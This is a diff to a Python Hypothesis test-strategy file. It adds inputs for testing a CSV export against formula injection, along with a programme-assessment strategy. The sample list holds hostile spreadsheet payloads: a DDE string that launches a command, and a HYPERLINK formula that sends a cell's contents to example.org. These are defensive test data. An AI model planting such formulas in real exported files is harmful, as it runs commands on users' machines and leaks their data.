@@ -841,3 +841,52 @@ def near_limit_series(draw: st.DrawFn) -> tuple[str, int, float, float, int]:
         st.one_of(_figures(low, high), st.floats(low, high, allow_nan=False)).filter(_above_zero)
     )
     return unit, sign, base, latest, draw(st.integers(1, 8))
+
+
+# ---------------------------------------------------------------------------
+# Tables out (issue 12)
+# ---------------------------------------------------------------------------
+#
+# Texts that a spreadsheet would take for a formula (OWASP, "CSV Injection"),
+# near misses that it would not, and cells of every type a table holds, for
+# the CSV export; programmes with their assessment, for the status tables.
+
+#: The characters that start a formula, alone or after white space.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", " =", "  +", "\n-", "\u00a0@", "\t=")
+formula_texts = st.one_of(
+    st.tuples(st.sampled_from(FORMULA_STARTS), texts).map("".join),
+    st.sampled_from(
+        [
+            '=HYPERLINK("http://example.org/?x="&A1,"klik")',
+            "=cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1",
+            "-1+1",
+            "-5",
+            "=",
+            "-",
+            "'=al ontmijnd",
+            "a=b",
+            "e-mail: -",
+        ]
+    ),
+)
+table_texts = st.one_of(texts, formula_texts)
+table_cells = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(-(2**70), 2**70),
+    st.floats(allow_nan=False, allow_infinity=False),
+    table_texts,
+    st.dates(),
+)
+
+
+@st.composite
+def assessed_programmes(
+    draw: st.DrawFn,
+) -> tuple[_pm.Programme, _pm.ProgrammeAssessment]:
+    """A valid programme and its assessment, as of a year of its figures' range, by any method."""
+    programme = draw(programmes())
+    as_of = draw(st.integers(FIRST_YEAR, LAST_YEAR))
+    return programme, _pm.assess(programme, as_of=as_of, method=draw(method_names))
